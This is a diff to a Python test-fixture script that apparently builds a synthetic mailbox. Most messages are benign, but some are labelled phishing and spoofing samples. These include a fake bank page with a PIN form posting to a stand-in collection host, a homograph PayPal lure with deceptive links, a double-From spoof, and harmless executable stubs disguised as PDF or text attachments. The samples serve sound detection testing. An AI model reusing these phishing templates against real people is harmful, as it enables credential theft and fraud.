@@ -85,7 +85,7 @@ def ew(text, charset="UTF-8", enc="B"):
 def rfc2231(param, text, charset="UTF-8", piece=24):
     """An RFC 2231 parameter with percent-encoding and continuations."""
     raw = text.encode(charset)
-    enc = "".join(chr(c) if chr(c).isalnum() or chr(c) in "-._" else "%%%02X" % c for c in raw)
+    enc = "".join(chr(c) if c < 128 and (chr(c).isalnum() or chr(c) in "-._") else "%%%02X" % c for c in raw)
     parts = []
     i = 0
     while i < len(enc):
@@ -1121,6 +1121,1031 @@ all plots. It is much quieter than the old one, too.
 
 Dev
 """, "the last word, still unread (new/)")
+
+# ======================================================================
+# March - April: attachments, signatures, stamps, forwarded mail
+# ======================================================================
+
+MINUTES_PDF = pdf("Eastside Allotments - committee minutes, 7 March 2024", [
+    "Present: Margaret Okafor (chair), Sam Reyes (treasurer), Hannah Cole, Dev Patel.",
+    "",
+    "1. Water pump. The committee approved the quote from Hydro Supplies",
+    "   (984.00 including fitting) plus a frost drain valve (35.00).",
+    "2. Plot 7 is vacant from April. Offer it to the first person on the waiting list.",
+    "3. Spring work day: Saturday 6 April, 10:00. Bring gloves.",
+    "4. Seed swap: Dev collects the list; see his message.",
+    "",
+    "Next meeting: Thursday 4 April, 19:30, in the pavilion.",
+])
+
+add("S", env("2024-03-07 20:30:00 +0000", "margaret.okafor@example.com", "smtp.example.com", "192.0.2.40",
+             sub=("[192.168.1.10]", "198.51.100.31")) + """
+From: Margaret Okafor <margaret.okafor@example.com>
+To: Alex Morgan <alex@example.org>, Dev Patel <dev@patel.example.net>,
+ Hannah Cole <hannah@cole.example.com>, Sam Reyes <sam.reyes@example.net>
+Subject: Minutes of tonight's committee meeting
+Date: Thu, 07 Mar 2024 20:30:00 +0000
+Message-ID: <CAMO+minutes.20240307203000@mail.example.com>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="000000000000a1b2c3d4e5f60718"
+
+--000000000000a1b2c3d4e5f60718
+Content-Type: text/plain; charset=UTF-8
+
+Hello all,
+
+the minutes are attached as a PDF. Please tell me by Sunday if I have
+misrecorded anything; otherwise they go on the notice board on Monday.
+
+Margaret
+
+--000000000000a1b2c3d4e5f60718
+Content-Type: application/pdf; name="minutes-2024-03-07.pdf"
+Content-Disposition: attachment; filename="minutes-2024-03-07.pdf"
+Content-Transfer-Encoding: base64
+
+%s
+--000000000000a1b2c3d4e5f60718--
+""" % b64(MINUTES_PDF), "attachment: a real, small PDF (application/pdf, named .pdf, is a PDF)")
+
+INVITE_TEXT = """\
+Hi Alex,
+
+I'm turning forty (how?!) and having a few people round on Saturday
+30 March from four o'clock: cake, tea, and later something stronger.
+Jordan is invited too, of course.
+
+Hannah
+"""
+INVITE_HTML = """\
+<html><body style="font-family: sans-serif; text-align: center;">
+<p><img src="cid:cake.7f3e@cole.example.com" width="96" height="96" alt="a cake"></p>
+<h2>Hannah is turning forty</h2>
+<p>Saturday 30 March, from four o'clock<br>
+Cake, tea, and later something stronger.</p>
+<p>Jordan is invited too, of course.</p>
+</body></html>
+"""
+
+add("FS", env("2024-03-19 18:22:10 +0000", "hannah@cole.example.com", "smtp.cole.example.com", "192.0.2.52",
+              sub=("[10.0.1.15]", "198.51.100.52")) + """
+From: Hannah Cole <hannah@cole.example.com>
+To: Alex Morgan <alex@example.org>
+Subject: You're invited: tea and cake on the 30th
+Date: Tue, 19 Mar 2024 18:22:10 +0000
+Message-ID: <f3c2a1b0-hannah-0319-invite@cole.example.com>
+MIME-Version: 1.0
+Content-Type: multipart/alternative; boundary="------------alt-hannah-0319"
+
+This is a multi-part message in MIME format.
+--------------alt-hannah-0319
+Content-Type: text/plain; charset=UTF-8; format=flowed
+Content-Transfer-Encoding: 7bit
+
+%s
+--------------alt-hannah-0319
+Content-Type: multipart/related; boundary="------------rel-hannah-0319"
+
+--------------rel-hannah-0319
+Content-Type: text/html; charset=UTF-8
+Content-Transfer-Encoding: 7bit
+
+%s
+--------------rel-hannah-0319
+Content-Type: image/png; name="cake.png"
+Content-Disposition: inline; filename="cake.png"
+Content-ID: <cake.7f3e@cole.example.com>
+Content-Transfer-Encoding: base64
+
+%s
+--------------rel-hannah-0319--
+
+--------------alt-hannah-0319--
+""" % (flow(INVITE_TEXT), INVITE_HTML, b64(cake_png())),
+    "multipart/alternative of text and multipart/related: HTML with a cid: inline PNG (no remote content)")
+
+SEEDS = """Eastside Allotments - spring seed swap 2024
+=============================================
+
+Plot  Name       Offering                        Looking for
+----  ---------  ------------------------------  -------------------------
+ 3    Hannah     runner beans 'Enorma', borage   leeks
+ 7    (vacant)   -                               -
+ 9    Dev        chillies (5 kinds), coriander   early potatoes
+12    Margaret   rhubarb crowns, sweet peas      tomato 'Sungold'
+14    Alex       courgettes, nasturtiums         garlic
+18    Jürgen     Kohlrabi 'Azur Star', dill      anything purple
+20    Sam        squash 'Crown Prince'           parsnips
+
+Swap day: Saturday 6 April, after the work day, by the pump house.
+"""
+
+add("S", env("2024-03-22 12:14:00 +0000", "dev@patel.example.net", "mail.patel.example.net", "192.0.2.45",
+             sub=("laptop.patel.example.net", "198.51.100.45")) + """
+From: Dev Patel <dev@patel.example.net>
+To: Alex Morgan <alex@example.org>
+Subject: Plot map and the seed swap list
+Date: Fri, 22 Mar 2024 12:14:00 +0000
+Message-ID: <87v8f3m2c5.fsf@patel.example.net>
+User-Agent: Gnus/5.13 (Gnus v5.13)
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="=-=-="
+
+--=-=-=
+Content-Type: text/plain
+
+Hi Alex,
+
+as promised: a tiny map of the site (the blue square is the new pump)
+and the seed swap list so far. You are down for courgettes and
+nasturtiums; shout if that is wrong.
+
+Dev
+
+--=-=-=
+Content-Type: image/png
+Content-Disposition: attachment; filename=plot-map.png
+Content-Transfer-Encoding: base64
+
+%s
+
+--=-=-=
+Content-Type: text/plain; charset=utf-8
+Content-Disposition: attachment; filename=seed-swap-2024.txt
+Content-Transfer-Encoding: quoted-printable
+
+%s
+--=-=-=--
+""" % (b64(plotmap_png()), qp(SEEDS.encode())), "attachments: a PNG and a UTF-8 text file (quoted-printable); unquoted parameter values")
+
+UEBERSICHT = """Parzellenübersicht 2024 (Entwurf)
+
+Parzelle  Pächter/in        Größe   Bemerkung
+  3       Hannah Cole       120 m²
+  7       frei              100 m²  ab April
+  9       Dev Patel         120 m²
+ 12       Margaret Okafor   150 m²  Vorsitz
+ 14       Alex Morgan       100 m²
+ 18       Jürgen Weiß       120 m²  Gewächshaus genehmigt
+ 20       Sam Reyes         100 m²  Kasse
+"""
+
+add("S", env("2024-03-25 16:40:19 +0100", "juergen.weiss@post.example.net", "mout.post.example.net", "192.0.2.47",
+             sub=("[192.168.178.20]", "203.0.113.47")) + """
+From: %s <juergen.weiss@post.example.net>
+To: Alex Morgan <alex@example.org>
+Subject: %s
+Date: Mon, 25 Mar 2024 16:40:19 +0100
+Message-ID: <trinity-7a3d01f5-uebersicht@post.example.net>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="----=_Part_7a3d01f5"
+
+------=_Part_7a3d01f5
+Content-Type: text/plain; charset=UTF-8
+Content-Transfer-Encoding: 8bit
+
+Hallo Alex,
+
+anbei die Übersicht der Parzellen für die Mitgliederversammlung. Kannst
+du kurz prüfen, ob deine Größe stimmt? Ich habe 100 m² eingetragen.
+
+(The plot overview for the general meeting is attached; please check
+that your plot size is right.)
+
+Viele Grüße
+Jürgen
+
+------=_Part_7a3d01f5
+Content-Type: text/plain; charset=UTF-8;
+	%s
+Content-Disposition: attachment;
+	%s
+Content-Transfer-Encoding: base64
+
+%s
+------=_Part_7a3d01f5--
+""" % (ew("Jürgen Weiß", "ISO-8859-1", "Q"), ew("Übersicht der Gartenparzellen für die Versammlung", "ISO-8859-1", "Q"),
+       rfc2231("name", "Übersicht Gartenparzellen 2024 – Entwurf für die Mitgliederversammlung.txt"),
+       rfc2231("filename", "Übersicht Gartenparzellen 2024 – Entwurf für die Mitgliederversammlung.txt"),
+       b64(UEBERSICHT.encode())),
+    "attachment name in RFC 2231 form: UTF-8 percent-encoding split over continuations (filename*0*, *1*, ...), one split inside a UTF-8 sequence; ISO-8859-1 Q-encoded Subject and From")
+
+add("S", """Return-Path: <bounce-statements@northwind-bank.example.com>
+Delivered-To: alex@example.org
+Received: from mx1.example.org
+	by imap.example.org with LMTP
+	id 2Qm9KcbQCmYt3wAAx7kq8g
+	(envelope-from <bounce-statements@northwind-bank.example.com>)
+	for <alex@example.org>; Mon, 01 Apr 2024 08:00:07 +0200
+Authentication-Results: mx1.example.org;
+	dkim=pass (2048-bit key) header.d=northwind-bank.example.com header.s=nwb2024 header.b=Rz4k0aXd;
+	spf=pass (mx1.example.org: domain of bounce-statements@northwind-bank.example.com designates 192.0.2.44 as permitted sender) smtp.mailfrom=bounce-statements@northwind-bank.example.com;
+	dmarc=pass (p=REJECT sp=REJECT dis=NONE) header.from=northwind-bank.example.com
+Received: from mail-out2.northwind-bank.example.com (mail-out2.northwind-bank.example.com [192.0.2.44])
+	(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))
+	by mx1.example.org (Postfix) with ESMTPS id 4V7Kq20XJgz9sT3
+	for <alex@example.org>; Mon, 01 Apr 2024 08:00:06 +0200
+Received: from app7.internal.northwind-bank.example.com (app7.internal.northwind-bank.example.com [10.20.4.17])
+	by mail-out2.northwind-bank.example.com (Postfix) with ESMTP id 1C2D3E4F5A
+	for <alex@example.org>; Mon, 01 Apr 2024 06:00:04 +0000 (UTC)
+DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
+	d=northwind-bank.example.com; s=nwb2024; t=1711951203;
+	h=from:to:subject:date:message-id:mime-version:content-type;
+	bh=Hq1JYwV0dWVZrR5NHZbW4n1o0oNrw6Zt8xR9mI1kP2E=;
+	b=Rz4k0aXdPLACEHOLDERnotARealSignatureK1x9Jm2d8Zq0Yw3Lr6Tv5Ns7Bp4Hc2Gf
+	 1Xa8Wd3Ke6Qj9Uo0Iy2Pt5Rl7Mn4Vb1Cz8Sx3Fg6Hj0Kd9Lw2Qe5Ra7Ty4Ui1Op3As6Df
+	 8Gh2Jk5Lz0Xc3Vb7Nm1Qw4Er9Ty6Ui2Op5As8Df0Gh3Jk7Lz1Xc4Vb8Nm2Qw5Er0Ty7Ui
+	 3Op6As9Df1Gh4Jk8Lz2Xc5Vb9Nm3Qw6Er1Ty8Ui4Op7As0Df2Gh5Jk9Lz3Xc6Vb0Nm4Q==
+From: Northwind Bank <statements@northwind-bank.example.com>
+To: Alex Morgan <alex@example.org>
+Subject: Your March statement is ready
+Date: Mon, 01 Apr 2024 06:00:03 +0000
+Message-ID: <stmt.2024-03.77120443@northwind-bank.example.com>
+MIME-Version: 1.0
+Content-Type: text/plain; charset=UTF-8
+Content-Transfer-Encoding: 7bit
+
+Dear Alex Morgan,
+
+your statement for March 2024 is ready in Northwind Online Banking.
+
+For your security this email contains no links and no attachments. To
+read your statement, open the Northwind app or type our address into
+your browser yourself.
+
+We will never ask you for your password, PIN or a one-time code by
+email or on the phone.
+
+Northwind Bank
+""", "the real bank: a sensible Received chain (internal hop, outbound relay, our MX), DKIM-Signature (placeholder b=), Authentication-Results pass from our own server")
+
+TOM_STAMP = hashcash(OWNER, "240402")
+
+add("S", env("2024-04-02 10:11:12 +0200", "tom.becker@harbor.example.com", "smtp.harbor.example.com", "192.0.2.33",
+             sub=("[10.1.4.12]", "203.0.113.14")) + """
+From: Tom Becker <tom.becker@harbor.example.com>
+To: Alex Morgan <alex@example.org>
+Subject: Lunch on Friday?
+Date: Tue, 02 Apr 2024 10:11:12 +0200
+Message-ID: <20240402081112.GA20931@harbor.example.com>
+X-Hashcash: %s
+User-Agent: Mutt/2.2.9 (2022-11-12)
+MIME-Version: 1.0
+Content-Type: text/plain; charset=us-ascii
+Content-Disposition: inline
+
+Hi Alex,
+
+the new noodle place by the river opened last week. Friday at 12:30?
+Priya is in too.
+
+(I have started stamping my mail with hashcash, as a small experiment
+after that lecture on spam. The X-Hashcash header is real: it costs my
+laptop about a second per recipient and you nothing to check.)
+
+Tom
+""" % TOM_STAMP, "X-Hashcash: a real 20-bit stamp for alex@example.org, dated 240402")
+
+add(None, """Return-Path: <fake@anywhere.test>
+Delivered-To: alex@example.org
+Received: from mx1.example.org
+	by imap.example.org with LMTP
+	id 8kQ2FqFXGWZ1NAAAx7kq8g
+	(envelope-from <fake@anywhere.test>)
+	for <alex@example.org>; Fri, 12 Apr 2024 19:46:56 +0200
+Authentication-Results: mx1.example.org;
+	spf=softfail (mx1.example.org: domain of transitioning fake@anywhere.test does not designate 198.51.100.54 as permitted sender) smtp.mailfrom=fake@anywhere.test;
+	dkim=none;
+	dmarc=none header.from=mail.example.com
+Received: from smtp.relay-one.test (198-51-100-54.static.hosting.test [198.51.100.54] (may be forged))
+	by mx1.example.org (Postfix) with ESMTP id 4VGxQ2m0ZbLz9sV
+	for <alex@example.org>; Fri, 12 Apr 2024 19:46:54 +0200
+Received: from relay-two.relay-one.test (unknown [10.44.3.9])
+	by smtp.relay-one.test (8.14.4/8.14.4) with ESMTP id 43CHkpXq011834;
+	Fri, 12 Apr 2024 13:46:51 -0400 (EDT)
+Received: from google.com (dialup-78.pool.someisp.test [203.0.113.78])
+	by relay-two.relay-one.test (8.14.4/8.14.4) with SMTP id 43CEjS01;
+	Fri, 12 Apr 2024 13:30:28 -0700 (PDT)
+Date: Fri, 12 Apr 2024 10:45:28 -0700 (PDT)
+From: cheap products <cheap@mail.example.com>
+To: something@somewhere.test
+Subject: The best offer only for you
+Message-ID: <0.0.0.7.1D8ABC.11F40@google.com>
+X-Mailer: Microsoft Outlook Express 6.00.2600.0000
+MIME-Version: 1.0
+Content-Type: text/plain; charset=us-ascii
+Content-Transfer-Encoding: 7bit
+
+Dear friend,
+
+ONLY TODAY: designer watches, perfumes and software at 90% off the
+retail price!!! Genuine quality, worldwide shipping, no questions asked.
+
+Visit http://203.0.113.78/best-offer/ and enter your code FRIEND90.
+
+You received this because you are a valued customer. To be removed from
+our list reply with REMOVE in the subject.
+""", "spam with a forged Received chain (the lecture's example): HELO google.com from a dial-up ISP address, a hop dated after its successor, a private 10.x address in a public hop, a \"(may be forged)\" marker; To is not the owner")
+
+BANK_HTML = """\
+<html>
+<head><title>Northwind Bank</title></head>
+<body style="font-family: Arial, sans-serif; font-size: 14px;">
+<table width="560" align="center"><tr><td>
+<p><img src="http://203.0.113.101/nwb/logo.gif" alt="Northwind Bank" width="180" height="48"></p>
+<p>Dear customer,</p>
+<p>We detected an unusual sign-in to your Northwind Online Banking account from a device in
+another country on <b>14 April 2024 at 23:52</b>. For your protection we have temporarily
+limited your account.</p>
+<p>To restore full access, please confirm your details within 24 hours:</p>
+<p style="text-align:center; padding: 12px;">
+<a href="http://northwind-bank.example.com.secure-login.test/verify?id=88123&amp;s=1" style="background:#0b3d91;color:#fff;padding:10px 18px;text-decoration:none;">https://www.northwind-bank.example.com/security</a></p>
+<p>Alternatively sign in here: <a href="http://0xcb007165/nwb/login.php">Northwind Online Banking</a>
+or copy this address into your browser: <a href="http://3405803877/nwb/">www.northwind-bank.example.com</a></p>
+<form action="http://203.0.113.101/nwb/collect.php" method="post">
+<p>Customer number: <input type="text" name="cust"> PIN: <input type="password" name="pin">
+<input type="submit" value="Confirm"></p>
+</form>
+<p>If you do not confirm, your account will be suspended.</p>
+<p>Northwind Bank Security Team</p>
+</td></tr></table>
+</body>
+</html>
+"""
+
+add(None, env("2024-04-15 03:12:44 +0000", "bounce-7781@bulk.nwb-secure-mail.test", "vps-3102.cheap-hosting.test", "203.0.113.101",
+              spf="pass", dkim="none", dmarc="none header.from=nwb-secure-mail.test", delays=(0, 1, 1)) + """
+From: "security@northwind-bank.example.com" <alerts@nwb-secure-mail.test>
+Reply-To: security-team@nwb-secure-mail.test
+To: alex@example.org
+Subject: Unusual sign-in activity on your account
+Date: Mon, 15 Apr 2024 03:12:44 +0000
+Message-ID: <1713150764.5519@vps-3102.cheap-hosting.test>
+MIME-Version: 1.0
+Content-Type: text/html; charset=UTF-8
+Content-Transfer-Encoding: base64
+
+""" + b64(BANK_HTML.encode()) + "\n",
+    "phishing, HTML only (base64): display name is an address; link text shows the bank's URL but goes elsewhere; hex (0xcb007165) and dotless decimal (3405803877) IP links; a password form; a remote logo from a bare IP")
+
+VENUE_TEXT = """\
+Dear Ms Natarajan,
+
+we are pleased to confirm your booking for Harbor Analytics:
+
+  Date:     Thursday 16 May 2024, 09:00-17:00
+  Room:     The Boathouse (up to 24 people)
+  Catering: coffee on arrival, lunch buffet, afternoon tea
+  Price:    1,860.00 EUR excl. VAT
+
+Our address and directions: https://lakeside-venue.example.com/directions
+
+Kind regards,
+Marta Lindqvist
+Lakeside Conference Centre
+"""
+
+add("PS", env("2024-04-17 09:30:00 +0200", "priya.natarajan@harbor.example.com", "smtp.harbor.example.com", "192.0.2.33",
+              sub=("[192.168.1.24]", "203.0.113.14")) + """
+From: Priya Natarajan <priya.natarajan@harbor.example.com>
+To: Alex Morgan <alex@example.org>
+Subject: Fwd: Booking confirmation - Harbor Analytics offsite, 16 May
+Date: Wed, 17 Apr 2024 09:30:00 +0200
+Message-ID: <9a0b1c2d-3e4f-4a5b-8c6d-7e8f9a0b1c2d@harbor.example.com>
+User-Agent: Mozilla Thunderbird
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="------------fwd-priya-0417"
+
+This is a multi-part message in MIME format.
+--------------fwd-priya-0417
+Content-Type: text/plain; charset=UTF-8; format=flowed
+Content-Transfer-Encoding: 7bit
+
+""" + flow("""Alex, for your calendar: the offsite venue is confirmed. The original message is attached. Could you sort out the projector with them? Priya""") + """
+
+--------------fwd-priya-0417
+Content-Type: message/rfc822; name="Booking confirmation.eml"
+Content-Disposition: attachment; filename="Booking confirmation.eml"
+
+Received: from mail.lakeside-venue.example.com (mail.lakeside-venue.example.com [192.0.2.230])
+	by smtp.harbor.example.com with ESMTPS id 4VK2r01Qx9;
+	Tue, 16 Apr 2024 15:12:40 +0000
+From: Lakeside Conference Centre <bookings@lakeside-venue.example.com>
+To: Priya Natarajan <priya.natarajan@harbor.example.com>
+Subject: Booking confirmation - Harbor Analytics offsite, 16 May
+Date: Tue, 16 Apr 2024 17:12:35 +0200
+Message-ID: <bk-20240416-0042@lakeside-venue.example.com>
+MIME-Version: 1.0
+Content-Type: multipart/alternative; boundary="lakeside-alt-0042"
+
+--lakeside-alt-0042
+Content-Type: text/plain; charset=UTF-8
+Content-Transfer-Encoding: 7bit
+
+""" + VENUE_TEXT + """
+--lakeside-alt-0042
+Content-Type: text/html; charset=UTF-8
+Content-Transfer-Encoding: 7bit
+
+<html><body><p>Dear Ms Natarajan,</p><p>we are pleased to confirm your booking for
+Harbor Analytics on <b>Thursday 16 May 2024</b>, 09:00-17:00, in The Boathouse.</p>
+<p><a href="https://lakeside-venue.example.com/directions">Directions</a></p>
+<img src="https://lakeside-venue.example.com/mail/open/bk-20240416-0042.gif" width="1" height="1" alt="">
+<p>Marta Lindqvist<br>Lakeside Conference Centre</p></body></html>
+
+--lakeside-alt-0042--
+
+--------------fwd-priya-0417--
+""", "forwarded as message/rfc822 attachment holding its own multipart/alternative (and a tracking pixel inside the nested HTML)")
+
+add("S", env("2024-04-18 15:02:37 +0200", "dev@patel.example.net", "mail.patel.example.net", "192.0.2.45",
+             sub=("laptop.patel.example.net", "198.51.100.45")) + """
+From: Dev Patel <dev@patel.example.net>
+To: Alex Morgan <alex@example.org>
+Subject: Allotment survey results (big file, not attached)
+Date: Thu, 18 Apr 2024 15:02:37 +0200
+Message-ID: <87o7b2x9k4.fsf@patel.example.net>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="=-=-=survey"
+
+--=-=-=survey
+Content-Type: text/plain
+
+The survey export is 48 MB, too big to mail, so my mail program
+attached a reference to it instead. It is the raw CSV; I am still
+writing the summary.
+
+Dev
+
+--=-=-=survey
+Content-Type: message/external-body; access-type=URL;
+	URL="https://data.example.net/exports/allotment-survey-2024.csv";
+	size=48211337; expiration="Sat, 18 May 2024 15:00:00 +0200"
+
+Content-Type: text/csv; charset=UTF-8
+Content-ID: <survey-2024.csv@data.example.net>
+Content-Description: Allotment survey 2024, raw export
+
+
+--=-=-=survey
+Content-Type: message/external-body; access-type=anon-ftp;
+	site="ftp.data.example.net"; directory="pub/allotments"; name="allotment-survey-2024.csv"
+
+Content-Type: text/csv
+
+
+--=-=-=survey--
+""", "message/external-body (access-type=URL and anon-ftp): references that must never be fetched")
+
+add(None, env("2024-04-22 08:14:09 +0200", "ar@kestrel-office.test", "smtp.kestrel-office.test", "203.0.113.120",
+              spf="neutral", dkim="none", dmarc="none header.from=kestrel-office.test") + """
+From: Kestrel Office Supplies - Accounts <ar@kestrel-office.test>
+To: alex@example.org
+Subject: Overdue invoice INV-20931 - final reminder
+Date: Mon, 22 Apr 2024 08:14:09 +0200
+Message-ID: <20240422061409.77123@kestrel-office.test>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="_kestrel_20931_"
+
+--_kestrel_20931_
+Content-Type: text/plain; charset=UTF-8
+
+Dear customer,
+
+our records show invoice INV-20931 (EUR 1,284.50) is now 30 days
+overdue. Please open the attached invoice and pay today to avoid a
+late fee. The shipping label for your last order is attached as well.
+
+Accounts department
+Kestrel Office Supplies
+
+--_kestrel_20931_
+Content-Type: application/pdf; name="invoice.pdf"
+Content-Disposition: attachment; filename="invoice.pdf"
+Content-Transfer-Encoding: base64
+
+%s
+
+--_kestrel_20931_
+Content-Type: text/plain; name="shipping-label.txt"
+Content-Disposition: attachment; filename="shipping-label.txt"
+Content-Transfer-Encoding: base64
+
+%s
+
+--_kestrel_20931_--
+""" % (b64(pe_stub("a harmless stand-in for the program an attacker would send as invoice.pdf")),
+       b64(zip_with("shipping-label.js", b"// wary demo: harmless. A real attack would hide a script here.\n"))),
+    "attachments that lie: invoice.pdf (declared application/pdf) is a Windows PE executable; shipping-label.txt (text/plain) is a ZIP holding a .js file")
+
+add("", env("2024-04-23 17:55:41 +0200", "finance@harbor-analytics.test", "mail.harbor-analytics.test", "203.0.113.130",
+            spf="pass", dkim="none", dmarc="none header.from=harbor-analytics.test") + """
+From: Harbor Analytics Finance <finance@harbor-analytics.test>
+To: alex@example.org
+Subject: Q1 report - please review before Friday
+Date: Tue, 23 Apr 2024 17:55:41 +0200
+Message-ID: <q1-report.20240423155541@harbor-analytics.test>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="q1rep"
+
+--q1rep
+Content-Type: text/plain; charset=UTF-8
+
+Hi,
+
+attached is the Q1 report. Please review it before Friday's meeting.
+
+Finance
+
+--q1rep
+Content-Type: application/octet-stream; name="report.pdf.exe"
+Content-Disposition: attachment; filename="report.pdf.exe"
+Content-Transfer-Encoding: base64
+
+%s
+--q1rep--
+""" % b64(pe_stub("a harmless stand-in named report.pdf.exe")),
+    "double extension report.pdf.exe (a PE stub) from a look-alike of the owner's employer's domain; seen but unread")
+
+PAYPAL_HTML = """\
+<!DOCTYPE html>
+<html><head><meta charset="utf-8"></head>
+<body style="font-family: Helvetica, Arial, sans-serif; background:#f5f7fa;">
+<div style="max-width:540px;margin:auto;background:#fff;padding:24px;">
+<p><img src="https://www.p\u0430ypal.example/img/logo.png" alt="PayPal" width="120"></p>
+<p>Hello,</p>
+<p>We noticed a payment of <b>329.99 EUR</b> to <b>GameKeys Store</b> that does not look like you.
+Your account has been <b>limited</b> until you confirm your identity.</p>
+<p><a href="https://paypal.com@evil.example/resolution/case-4471">https://www.paypal.com/resolution</a></p>
+<p>Or sign in at <a href="https://www.p\u0430ypal.example/signin">www.paypal.example</a> and open the Resolution Center.</p>
+<p>If you made this payment you can ignore this message: <a href="http://www.xn--pypal-4ve.example/ok">https://www.paypal.example/confirm</a></p>
+<p>Sincerely,<br>PayPal</p>
+</div>
+</body></html>
+"""
+
+add(None, env("2024-04-26 11:20:05 +0000", "service@xn--pypal-4ve.example", "mail.xn--pypal-4ve.example", "198.51.100.201",
+              spf="pass", dkim="pass header.d=xn--pypal-4ve.example", dmarc="pass header.from=xn--pypal-4ve.example") + """
+From: PayPal <service@xn--pypal-4ve.example>
+Reply-To: PayPal Resolution <resolution@p\u0430ypal.example>
+To: alex@example.org
+Subject: Your account has been limited
+Date: Fri, 26 Apr 2024 11:20:05 +0000
+Message-ID: <RT-0426-88172@xn--pypal-4ve.example>
+DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=xn--pypal-4ve.example; s=mail;
+	h=from:to:subject:date:message-id; bh=PLACEHOLDERbodyhashNotReal000000000000000000=;
+	b=PLACEHOLDERnotARealSignatureGx3Fk8Lm2Nq5Rs9Tv1Wx4Yz7Ab0Cd3Ef6Gh9Ij2Kl5Mn8=
+MIME-Version: 1.0
+Content-Type: text/html; charset=UTF-8
+Content-Transfer-Encoding: quoted-printable
+
+""" + qp(PAYPAL_HTML.encode()),
+    "look-alike sender domain xn--pypal-4ve.example (p + Cyrillic a + ypal) that passes its own SPF/DKIM/DMARC; Reply-To with a raw Cyrillic letter; userinfo link https://paypal.com@evil.example/; links to the mixed-script host; http link whose text says https")
+
+add(None, env("2024-04-29 06:40:18 +0000", "statements@evil.example", "out.evil.example", "198.51.100.66",
+              spf="pass", dkim="pass header.d=evil.example", dmarc="fail header.from=northwind-bank.example.com") + """
+DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=evil.example; s=s1;
+	h=from:to:subject:date:message-id; bh=PLACEHOLDERbodyhash2NotReal0000000000000000=;
+	b=PLACEHOLDERnotARealSignatureQw8Er5Ty2Ui9Op6As3Df0Gh7Jk4Lz1Xc8Vb5Nm2=
+From: Northwind Bank <statements@northwind-bank.example.com>
+From: Northwind Statements <statements@evil.example>
+To: Alex Morgan <alex@example.org>
+Subject: Your April statement is ready - action needed
+Date: Mon, 29 Apr 2024 06:40:18 +0000
+Message-ID: <stmt.2024-04.99120003@evil.example>
+MIME-Version: 1.0
+Content-Type: text/plain; charset=UTF-8
+
+Dear Alex Morgan,
+
+your April statement shows a pending transfer of 2,450.00 EUR that
+needs your confirmation. If you did not authorise it, cancel it here
+within 12 hours:
+
+    https://northwind-bank.example.com.cancel-transfer.test/c/99120003
+
+Northwind Bank
+""", "two From headers (the bank's first, the signer's second); DKIM by evil.example; the verdict must be \"ambiguous\"")
+
+# ======================================================================
+# May - June: signatures, spoofing, spam, odd headers, terminal attacks
+# ======================================================================
+
+KEYS_TEXT = """\
+Hi all (and Alex, who asked),
+
+I rotated the key I use for the allotments' shared accounts. The new
+fingerprint is below; please update your keyring before the next work
+day. The old key expires at the end of May.
+
+    new: 7D2A 91C4 0E35 B6F8 21A9  4C3D 5E60 1F82 B7C4 9A03
+
+This message is signed with the new key, so you can check it.
+
+Dev
+"""
+
+add("S", env("2024-05-02 19:03:27 +0200", "dev@patel.example.net", "mail.patel.example.net", "192.0.2.45",
+             sub=("laptop.patel.example.net", "198.51.100.45")) + """
+From: Dev Patel <dev@patel.example.net>
+To: Alex Morgan <alex@example.org>
+Subject: New OpenPGP key for the allotments accounts
+Date: Thu, 02 May 2024 19:03:27 +0200
+Message-ID: <87k1m4a0e7.fsf@patel.example.net>
+User-Agent: Gnus/5.13 (Gnus v5.13)
+MIME-Version: 1.0
+Content-Type: multipart/signed; boundary="=-=-=sig";
+	micalg=pgp-sha256; protocol="application/pgp-signature"
+
+--=-=-=sig
+Content-Type: text/plain; charset=utf-8
+Content-Transfer-Encoding: quoted-printable
+
+%s
+--=-=-=sig
+Content-Type: application/pgp-signature; name="signature.asc"
+Content-Description: OpenPGP digital signature
+Content-Disposition: attachment; filename="signature.asc"
+
+%s
+--=-=-=sig--
+""" % (qp(KEYS_TEXT.encode()), placeholder_signature("Dev Patel")),
+    "PGP/MIME multipart/signed shape (RFC 3156); the signature is a PLACEHOLDER, not a real signature")
+
+TREASURER = """\
+Treasurer's report, April 2024
+
+Opening balance                      2,311.40
+Membership fees (6 plots)              540.00
+Pump (Hydro Supplies, paid 18 April)  -984.00
+Frost drain valve                      -35.00
+-----------------------------------------------
+Closing balance                      1,832.40
+
+- Receipts are in the blue folder in the pavilion.
+- Next fees are due on 1 October.
+
+Sam Reyes, treasurer
+"""
+
+
+def dash_escape(text):
+    return "\n".join("- " + ln if ln.startswith("-") else ln for ln in text.split("\n"))
+
+
+add("S", env("2024-05-06 20:15:00 +0000", "sam.reyes@example.net", "smtp.example.net", "192.0.2.61",
+             sub=("[192.168.0.40]", "203.0.113.61")) + """
+From: Sam Reyes <sam.reyes@example.net>
+To: Alex Morgan <alex@example.org>, Margaret Okafor <margaret.okafor@example.com>
+Subject: Treasurer's report for April (signed)
+Date: Mon, 06 May 2024 20:15:00 +0000
+Message-ID: <sam.20240506201500.report@example.net>
+MIME-Version: 1.0
+Content-Type: text/plain; charset=UTF-8
+Content-Transfer-Encoding: 8bit
+
+Hello both, the April report is below, clearsigned as usual.
+
+-----BEGIN PGP SIGNED MESSAGE-----
+Hash: SHA256
+
+%s
+%s
+
+Sam
+""" % (dash_escape(TREASURER).rstrip("\n"), placeholder_signature("Sam Reyes")),
+    "inline PGP clearsigned block with dash-escaped lines, text before and after it; the signature is a PLACEHOLDER")
+
+add(None, """Return-Path: <it-helpdesk@harbor.example.com>
+Delivered-To: alex@example.org
+Received: from mx1.example.org
+	by imap.example.org with LMTP
+	id kM2rB3UPO2YvYQAAx7kq8g
+	(envelope-from <it-helpdesk@harbor.example.com>)
+	for <alex@example.org>; Wed, 08 May 2024 09:21:43 +0200
+Authentication-Results: mx1.example.org;
